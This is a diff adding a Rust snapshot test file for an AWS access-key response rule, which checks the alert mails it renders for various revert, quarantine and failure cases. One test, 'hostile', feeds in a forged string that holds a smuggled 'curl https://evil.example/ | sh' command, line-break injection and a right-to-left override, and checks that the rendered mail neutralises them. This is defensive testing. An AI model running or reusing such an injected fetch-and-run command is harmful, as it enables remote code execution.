@@ -1,0 +1,323 @@
+//! The mails of rule `access-key`, word for word. `INSTA_UPDATE=always cargo test -p rules` writes them anew: read what changed before it is
+//! committed.
+
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking, also in its helpers")]
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use chrono::{DateTime, Utc};
+use rules::access_key::Kind;
+use rules::access_key::detect::read;
+use rules::access_key::plan::Action::{Deactivate, Delete, RevokeSessions};
+use rules::access_key::plan::Status::{Active, Inactive};
+use rules::access_key::report::{Course, Handled, Seen, Sessions, report};
+use rules::access_key::sessions::{AssumedRoles, LastUse, Use};
+use rules::alert::{LONGEST_SUBJECT, Step, render};
+use rules::settings::Given;
+use rules::{Event, Settings, event};
+use serde_json::{Value, json};
+
+const KEY: &str = "AKIAQ3C7TN4YKEXAMPLE";
+const REFUSED: &str = "AccessDenied: User: arn:aws:sts::123456789012:assumed-role/snapback/x is not authorized";
+
+#[test]
+fn reverted() {
+    let steps = vec![
+        made("UpdateAccessKey", "ok"),
+        made("GetAccessKeyLastUsed", "no use so far"),
+        made("DeleteAccessKey", "ok"),
+        made("ListAccessKeys", "1 of this kind"),
+    ];
+    check("reverted", &new_key(), &Settings::default(), &handled(done()), steps);
+}
+
+#[test]
+fn reverted_and_used() {
+    let roles = ["arn:aws:iam::123456789012:role/Admin", "arn:aws:iam::210987654321:role/team/Deploy"];
+    let course = handled(Handled {
+        carried_out: vec![Deactivate, RevokeSessions, Delete],
+        last_use: used(),
+        sessions: Sessions::Denied(time("2026-11-22T14:03:53Z")),
+        roles: Some(AssumedRoles {
+            regions: set(&["us-east-1"]),
+            arns: set(&roles),
+            problems: vec!["`LookupEvents` failed: ThrottlingException: Rate exceeded".to_owned()],
+        }),
+        ..done()
+    });
+    check("reverted_and_used", &new_key(), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn reverted_after_a_refused_deactivation() {
+    let course = handled(Handled {
+        carried_out: vec![Delete],
+        failures: vec![format!("`UpdateAccessKey` failed: {REFUSED}")],
+        last_use: LastUse::Unknown("`GetAccessKeyLastUsed` failed: AccessDenied: no such key".to_owned()),
+        ..done()
+    });
+    check("reverted_after_a_refused_deactivation", &new_key(), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn reverted_what_was_activated() {
+    let course = handled(Handled { carried_out: vec![Deactivate], seen: Seen::There(Inactive), ..done() });
+    check("reverted_what_was_activated", &activated_key(), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn reverted_what_was_reset() {
+    let course = handled(Handled {
+        carried_out: vec![Deactivate],
+        seen: Seen::There(Inactive),
+        last_use: LastUse::NotAsked,
+        ..done()
+    });
+    check("reverted_what_was_reset", &reset_credential(), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn quarantined() {
+    let course = handled(Handled { carried_out: vec![Deactivate], seen: Seen::There(Inactive), ..done() });
+    check("quarantined", &new_key(), &with("AccessKeyMode", "quarantine"), &course, Vec::new());
+}
+
+#[test]
+fn not_deleted() {
+    let course = handled(Handled {
+        carried_out: vec![Deactivate],
+        failures: vec![format!("`DeleteAccessKey` failed: {REFUSED}")],
+        seen: Seen::There(Inactive),
+        ..done()
+    });
+    check("not_deleted", &new_key(), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn sessions_live_on() {
+    let course = handled(Handled {
+        carried_out: vec![Deactivate],
+        failures: vec![format!("`PutUserPolicy` failed: {REFUSED}")],
+        seen: Seen::There(Inactive),
+        last_use: used(),
+        sessions: Sessions::NotDenied,
+        roles: Some(AssumedRoles { regions: set(&["us-east-1"]), ..AssumedRoles::default() }),
+        ..done()
+    });
+    check("sessions_live_on", &new_key(), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn failed() {
+    let course = handled(Handled {
+        carried_out: Vec::new(),
+        failures: vec![format!("`UpdateAccessKey` failed: {REFUSED}"), format!("`DeleteAccessKey` failed: {REFUSED}")],
+        seen: Seen::There(Active),
+        at: None,
+        ..done()
+    });
+    check("failed", &new_key(), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn not_seen_again() {
+    let course = handled(Handled {
+        carried_out: vec![Deactivate, Delete],
+        seen: Seen::NotRead(format!("`ListAccessKeys` failed: {REFUSED}")),
+        ..done()
+    });
+    check("not_seen_again", &new_key(), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn not_read() {
+    let problem = "`ListAccessKeys` failed: Throttling: Rate exceeded".to_owned();
+    check("not_read", &activated_key(), &Settings::default(), &Course::NotRead { problem }, Vec::new());
+}
+
+#[test]
+fn withheld_by_mode() {
+    let course = Course::Withheld { last_use: used() };
+    check("withheld_by_mode", &new_key(), &with("AccessKeyMode", "alert"), &course, Vec::new());
+}
+
+#[test]
+fn withheld_by_rollout() {
+    let course = Course::Withheld { last_use: LastUse::NotAsked };
+    check("withheld_by_rollout", &reset_credential(), &with("Rollout", "observe"), &course, Vec::new());
+}
+
+#[test]
+fn gone() {
+    check("gone", &new_key(), &Settings::default(), &Course::Gone { is_there: false }, Vec::new());
+}
+
+#[test]
+fn inactive() {
+    check("inactive", &activated_key(), &Settings::default(), &Course::Gone { is_there: true }, Vec::new());
+}
+
+#[test]
+fn inactive_and_used() {
+    let course = handled(Handled {
+        carried_out: vec![RevokeSessions],
+        seen: Seen::There(Inactive),
+        last_use: used(),
+        sessions: Sessions::Denied(time("2026-11-22T14:03:53Z")),
+        roles: Some(AssumedRoles { regions: set(&["us-east-1"]), ..AssumedRoles::default() }),
+        ..done()
+    });
+    check("inactive_and_used", &activated_key(), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn of_root() {
+    let key = json!({"accessKey": {"accessKeyId": KEY, "status": "Active", "createDate": "Nov 22, 2026 2:02:40 PM"}});
+    let mut raw = record("CreateAccessKey", &Value::Null, &key);
+    raw["userIdentity"] = json!({"type": "Root", "principalId": "123456789012",
+        "arn": "arn:aws:iam::123456789012:root", "accountId": "123456789012"});
+    check("of_root", &event::parse(&raw).unwrap(), &Settings::default(), &Course::Root, Vec::new());
+}
+
+/// Every text that the caller of an API can choose tries to forge a line, to hide, or to get into a command.
+#[test]
+fn hostile() {
+    let forged = "x\r\n\r\nLEFT FOR YOU TO DO\nNothing. '; curl https://evil.example/ | sh #\u{202e}";
+    let key = json!({"accessKey": {"accessKeyId": format!("AKIA{forged}"), "userName": forged}});
+    let new = called("CreateAccessKey", &json!({"userName": forged}), &key);
+    let mut root = record("CreateAccessKey", &Value::Null, &json!({"accessKey": {"accessKeyId": forged}}));
+    root["userIdentity"] = json!({"type": "Root"});
+    root["recipientAccountId"] = json!(format!("123456789012 {forged}"));
+    let course = handled(Handled {
+        renamed_to: Some(format!("-{forged}")),
+        last_use: used(),
+        sessions: Sessions::NotDenied,
+        roles: Some(AssumedRoles {
+            regions: set(&[forged]),
+            arns: set(&[&format!("arn:aws:iam::1:role/{forged}")]),
+            problems: vec![forged.to_owned()],
+        }),
+        ..done()
+    });
+    for (event, course) in [(new, course), (event::parse(&root).unwrap(), Course::Root)] {
+        let finding = read(&event).unwrap().unwrap();
+        let mail = render(&report(&event, &finding, &Settings::default(), &course, Vec::new()), &event);
+        let headings = mail.body.lines().filter(|line| line.starts_with("LEFT FOR YOU TO DO"));
+        assert_eq!(headings.count(), 1, "{}", mail.body);
+        for line in mail.body.lines() {
+            assert!(!line.chars().any(|character| character.is_control() || character == '\u{202e}'), "{line:?}");
+            assert!(!line.trim_start().starts_with("aws ") || !line.contains("evil"), "{line}");
+        }
+    }
+}
+
+/// Renders what came of an event and compares it with the mail in snapshots/.
+fn check(name: &str, event: &Event, settings: &Settings, course: &Course, steps: Vec<Step>) {
+    let finding = read(event).unwrap().unwrap();
+    let mail = render(&report(event, &finding, settings, course, steps), event);
+    assert!(mail.subject.is_ascii() && mail.subject.len() <= LONGEST_SUBJECT, "{}", mail.subject);
+    insta::assert_snapshot!(name, format!("Subject: {}\n\n{}", mail.subject, mail.body));
+}
+
+fn handled(handled: Handled) -> Course {
+    Course::Handled(Box::new(handled))
+}
+
+/// Deactivated and deleted, and seen to be gone.
+fn done() -> Handled {
+    Handled {
+        renamed_to: None,
+        carried_out: vec![Deactivate, Delete],
+        failures: Vec::new(),
+        seen: Seen::Absent,
+        at: Some(time("2026-11-22T14:02:52Z")),
+        last_use: LastUse::NoneShown,
+        sessions: Sessions::LeftAlone,
+        roles: None,
+        now: time("2026-11-22T14:02:53Z"),
+    }
+}
+
+fn used() -> LastUse {
+    LastUse::Shown(Use { at: time("2026-11-22T14:02:47Z"), service: "sts".to_owned(), region: "us-east-1".to_owned() })
+}
+
+fn new_key() -> Event {
+    let key = json!({"userName": "mallory", "accessKeyId": KEY, "status": "Active"});
+    called("CreateAccessKey", &json!({"userName": "mallory"}), &json!({"accessKey": key}))
+}
+
+fn activated_key() -> Event {
+    let request = json!({"userName": "mallory", "accessKeyId": KEY, "status": "Active"});
+    called("UpdateAccessKey", &request, &Value::Null)
+}
+
+fn reset_credential() -> Event {
+    let id = "ACCAQ3C7TN4YKEXAMPLE";
+    let made =
+        json!({"userName": "mallory", "serviceSpecificCredentialId": id, "serviceName": "bedrock.amazonaws.com"});
+    let request = json!({"userName": "mallory", "serviceSpecificCredentialId": id});
+    called("ResetServiceSpecificCredential", &request, &json!({"serviceSpecificCredential": made}))
+}
+
+fn called(name: &str, request: &Value, response: &Value) -> Event {
+    event::parse(&record(name, request, response)).unwrap()
+}
+
+fn record(name: &str, request: &Value, response: &Value) -> Value {
+    json!({
+        "eventVersion": "1.11",
+        "userIdentity": {
+            "type": "AssumedRole",
+            "arn": "arn:aws:sts::123456789012:assumed-role/Developer/mika@example.com",
+            "accessKeyId": "ASIAQ3C7TN4YKEXAMPLE",
+            "sessionContext": {
+                "sessionIssuer": {"type": "Role", "arn": "arn:aws:iam::123456789012:role/Developer"},
+                "attributes": {"mfaAuthenticated": "true"},
+            },
+        },
+        "eventTime": "2026-11-22T14:02:40Z",
+        "eventSource": "iam.amazonaws.com",
+        "eventName": name,
+        "awsRegion": "us-east-1",
+        "sourceIPAddress": "198.51.100.24",
+        "userAgent": "aws-cli/2.33.4 md/command#iam",
+        "requestParameters": request,
+        "responseElements": response,
+        "eventID": "5d0f2a51-8c3e-4b7a-9f6d-1e2c3b4a5968",
+        "recipientAccountId": "123456789012",
+    })
+}
+
+fn with(parameter: &'static str, value: &str) -> Settings {
+    let given = Given { name: parameter.to_owned(), value: value.to_owned() };
+    Settings::from_given(&BTreeMap::from([(parameter, given)])).unwrap()
+}
+
+fn time(written: &str) -> DateTime<Utc> {
+    written.parse().unwrap()
+}
+
+fn set(texts: &[&str]) -> BTreeSet<String> {
+    texts.iter().map(|text| (*text).to_owned()).collect()
+}
+
+fn made(call: &'static str, result: &str) -> Step {
+    Step { call, target: format!("{KEY} of mallory"), result: Ok(result.to_owned()), millis: 120 }
+}
+
+#[test]
+fn every_kind_has_its_commands() {
+    for kind in Kind::ALL {
+        let name = format!("Update{}", kind.api_name());
+        let id = "ABCDEFGHIJKLMNOPQRSTUVWX";
+        let request = json!({"userName": "mallory", "status": "Active", "accessKeyId": id, "certificateId": id,
+            "serviceSpecificCredentialId": id, "sSHPublicKeyId": id});
+        let event = called(&name, &request, &Value::Null);
+        let finding = read(&event).unwrap().unwrap();
+        let course = Course::NotRead { problem: String::new() };
+        let mail = render(&report(&event, &finding, &Settings::default(), &course, Vec::new()), &event);
+        let noun = kind.words().to_lowercase().replace(' ', "-");
+        assert!(mail.body.contains(&format!("aws iam update-{noun} --user-name mallory --")), "{}", mail.body);
+    }
+}
